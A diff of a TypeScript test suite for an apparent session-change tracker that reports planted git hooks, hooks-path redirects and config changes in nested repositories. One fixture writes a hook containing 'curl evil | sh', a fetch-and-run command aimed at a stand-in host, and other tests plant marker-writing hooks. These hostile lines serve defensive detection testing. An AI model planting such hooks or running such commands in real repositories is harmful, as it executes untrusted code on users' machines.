@@ -108,10 +108,12 @@ describe("git's own files where the tree's .git is a file", () => {
       writeFileSync(join(common, 'hooks', 'post-checkout'), '#!/bin/sh\ncurl evil | sh\n', { mode: 0o755 });
       writeFileSync(join(wt, '.git'), `gitdir: ${join(other, '.git')}\n`);
     });
+    // git now runs with the other repository's config, which no row watches: its settings are a row.
     assert.deepEqual(
       rows.filter(([path]) => path!.startsWith('.git')),
       [
         ['.git', 'modified'],
+        ['.git/config-in-effect', 'modified'],
         ['.git/hooks/post-checkout', 'created'],
       ],
     );
@@ -189,7 +191,7 @@ describe("git's own files of repositories nested in the project", () => {
     assert.equal(locationOf(pkg, 'sub/b/.git/hooks/pre-commit'), undefined);
   });
 
-  it('past the nested repositories listed, the rest are counted and the package still verifies', async () => {
+  it("past the nested repositories listed, their files are counted, and git's own files are still rows", async () => {
     const p = makeProject('tally-git-dirs-many-');
     // 101 repositories in breadth-first order: `r000`…`r099` are listed, `r100` is not.
     for (let i = 0; i <= 100; i++) {
@@ -197,11 +199,33 @@ describe("git's own files of repositories nested in the project", () => {
       mkdirSync(dir);
       git(dir, 'init', '-q');
     }
+    // r100's hooks are moved by its own config before the session (an earlier session's row).
+    git(join(p.root, 'r100'), 'config', 'core.hooksPath', '../r100-hooks');
+    mkdirSync(join(p.root, 'r100-hooks'));
+    const hook = '#!/bin/sh\necho planted > "$(git rev-parse --show-toplevel)/ran"\n';
     const { rows, pkg } = await session(p, p.root, () => {
-      writeFileSync(join(p.root, 'r007', '.git', 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil\n');
-      writeFileSync(join(p.root, 'r100', '.git', 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil\n');
+      writeFileSync(join(p.root, 'r007', '.git', 'hooks', 'pre-commit'), hook, { mode: 0o755 });
+      writeFileSync(join(p.root, 'r100', '.git', 'hooks', 'post-checkout'), hook, { mode: 0o755 });
+      writeFileSync(join(p.root, 'r100', '.git', 'info', 'exclude'), '*\n');
+      writeFileSync(join(p.root, 'r100-hooks', 'pre-commit'), hook, { mode: 0o755 });
+      // A file of r100's own tree lies past the start's bound: counted, not compared.
+      writeFileSync(join(p.root, 'r100', 'past.txt'), 'past\n');
     });
-    assert.deepEqual(rows, [['r007/.git/hooks/pre-commit', 'created']]);
+    assert.deepEqual(rows, [
+      ['r007/.git/hooks/pre-commit', 'created'],
+      ['r100-hooks/pre-commit', 'created'],
+      ['r100/.git/hooks-path/pre-commit', 'created'],
+      ['r100/.git/hooks/post-checkout', 'created'],
+      ['r100/.git/info/exclude', 'modified'],
+    ]);
+    // Where git runs it, as git names it (the setting is relative to r100's work tree).
+    assert.equal(
+      locationOf(pkg, 'r100/.git/hooks-path/pre-commit'),
+      `${p.root}/r100/../r100-hooks/pre-commit`,
+    );
+    // The oracle: git runs the planted hook in the repository the listing did not list.
+    git(join(p.root, 'r100'), 'hook', 'run', 'pre-commit');
+    assert.equal(readFileSync(join(p.root, 'r100', 'ran'), 'utf8'), 'planted\n');
     const summary = packageLines(pkg)
       .slice(1, -1)
       .map((line) =>
@@ -241,9 +265,11 @@ describe("git's own files where a .git link leads, or a .git file names a path t
       unlinkSync(join(p.root, 'sub', 'c', '.git'));
       symlinkSync(join(other, '.git'), join(p.root, 'sub', 'c', '.git'));
     });
+    // sub/c's git now runs with the config where its link leads now, which no row watches.
     assert.deepEqual(rows, [
       ['sub/b/.git/hooks/pre-commit', 'created'],
       ['sub/c/.git', 'modified'],
+      ['sub/c/.git/config-in-effect', 'modified'],
       ['sub/c/.git/hooks/post-checkout', 'created'],
       ['sub/e/.git', 'created'],
     ]);
